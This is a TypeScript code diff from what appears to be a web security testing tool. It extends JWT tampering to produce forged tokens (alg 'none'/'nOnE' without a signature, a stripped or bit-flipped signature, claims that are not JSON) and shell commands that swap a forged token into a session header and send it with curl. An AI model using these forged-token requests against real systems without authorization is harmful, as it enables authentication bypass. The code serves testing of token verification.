@@ -1,3 +1,4 @@
+import { quoteShell } from '../../../quoteShell.ts'
 import { decodeJwt, encodeJwtPart, type JwtParts, joinJwt, splitJwt } from '../../parse/formats/jwt.ts'
 
 /** A token that nobody but an application which does not verify it takes for its own. */
@@ -5,6 +6,8 @@ export type TamperedToken = {
   readonly text: string
   /** What was changed, in a few words. */
   readonly about: string
+  /** Makes the same of `$TOKEN` in a POSIX shell. */
+  readonly command: string
 }
 
 /**
@@ -17,12 +20,35 @@ export function tamperToken(token: string): readonly TamperedToken[] {
   if (decoded === null || parts === null || parts.signature.length < 8) return []
   const header = (alg: string) => encodeJwtPart(JSON.stringify({ ...decoded.header, alg }))
   const forge = (changed: Partial<JwtParts>) => joinJwt({ ...parts, ...changed })
+  const unsigned = (alg: string): TamperedToken => ({
+    text: forge({ header: header(alg), signature: '' }),
+    about: `alg ${alg} without signature`,
+    command: `${header(alg)}.$(printf %s "$TOKEN" | cut -d. -f2).`,
+  })
   return [
-    { text: forge({ signature: flipBit(parts.signature) }), about: 'one bit of the signature flipped' },
-    { text: forge({ header: header('none'), signature: '' }), about: 'alg none without signature' },
-    { text: forge({ signature: '' }), about: 'without signature' },
-    { text: forge({ header: header('nOnE'), signature: '' }), about: 'alg nOnE without signature' },
+    {
+      text: forge({ signature: flipBit(parts.signature) }),
+      about: 'one bit of the signature flipped',
+      command: `\${TOKEN%.*}.$(printf %s "\${TOKEN##*.}" | tr A-Za-z a-zA-Z)`,
+    },
+    unsigned('none'),
+    { text: forge({ signature: '' }), about: 'without signature', command: `\${TOKEN%.*}.` },
+    unsigned('nOnE'),
   ]
+}
+
+/** Makes a token whose claims are no JSON of `$TOKEN` in a POSIX shell. */
+export const breakingCommand = `\${TOKEN%%.*}.${encodeJwtPart('no JSON')}.\${TOKEN##*.}`
+
+/** A request with another token in the place of that of the sign-in, as commands for a POSIX shell. */
+export function tokenCommand(url: string, name: string, command: string): string {
+  // The sign-in may hold several.
+  const from = /^[\w-]+$/.test(name) ? ` | sed 's/^.*[ ;]${name}=//'` : ''
+  return [
+    `TOKEN="$(printf %s "$SESSION_A"${from} | grep -o 'eyJ[A-Za-z0-9_-]*.[A-Za-z0-9_-]*.[A-Za-z0-9_-]*' | head -n 1)"`,
+    `FORGED="${command}"`,
+    `curl -i --path-as-is -H "$(printf %s "$SESSION_A" | sed "s/$TOKEN/$FORGED/")" ${quoteShell(url)}`,
+  ].join('\n')
 }
 
 /** The token with claims that are no JSON: whoever takes it does not look at it at all. Null for no token. */
